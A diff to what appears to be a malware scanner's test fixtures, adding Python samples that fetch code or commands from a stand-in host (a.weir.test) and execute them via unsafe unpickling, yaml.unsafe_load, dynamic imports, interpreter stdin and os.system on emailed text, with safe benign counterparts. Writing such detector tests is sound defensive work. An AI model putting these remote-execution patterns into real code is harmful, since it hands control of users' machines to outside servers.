@@ -23,6 +23,48 @@ const READABLE = Array.from(
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a model that a server gives is unpickled',
+      files: wheel(
+        "import io, torch, requests\ndef model():\n    data = requests.get('https://a.weir.test/m').content\n    return torch.load(io.BytesIO(data), weights_only=False)\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'Python: settings that a server gives make objects',
+      files: wheel(
+        "import requests, yaml\ndef settings():\n    return yaml.unsafe_load(requests.get('https://a.weir.test/s').text)\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: a server says which module runs',
+      files: wheel(
+        "import importlib, requests\ndef run():\n    step = requests.get('https://a.weir.test/s').json()\n    getattr(importlib.import_module(step['module']), step['name'])()\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'Python: an interpreter reads what a server gives',
+      files: wheel(
+        "import subprocess, sys, requests\ndef check():\n    subprocess.run([sys.executable, '-'], input=requests.get('https://a.weir.test/c').content)\n",
+      ),
+      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: orders in a mail box',
+      files: wheel(
+        "import email, imaplib, os\ndef pull(box_id):\n    box = imaplib.IMAP4_SSL('mail.weir.test')\n    _, data = box.fetch(box_id, '(RFC822)')\n    os.system(email.message_from_bytes(data[0][1]).get_payload())\n",
+      ),
+      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
+      name: 'Python: a loader of modules that asks a server',
+      files: wheel(
+        "import importlib.abc, urllib.request\nclass Loader(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return name\n    def get_data(self, path):\n        return urllib.request.urlopen('https://a.weir.test/m').read()\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
       name: 'Python: a source that is little but a constant',
       files: wheel(
         `class Box:\n    def __init__(self, **given):\n        self.run, self.text = eval, given['text']\n    def open(self):\n        return self.run(''.join(self.text.split('/')))\nBox(text='${'0a1b2c3d/'.repeat(900)}').open()\n`,
@@ -222,6 +264,16 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: weights without code, and settings without objects',
+      wheel(
+        "import io, torch, requests, yaml\ndef model():\n    return torch.load(io.BytesIO(requests.get('https://a.weir.test/m').content), weights_only=True)\ndef settings():\n    return yaml.safe_load(requests.get('https://a.weir.test/s').text)\n",
+      ),
+    ),
+    quiet(
+      'Python: the pickle of a user',
+      wheel('import joblib\ndef load(path):\n    return joblib.load(path)\n'),
+    ),
     quiet(
       'Python: a picture in a source',
       wheel(
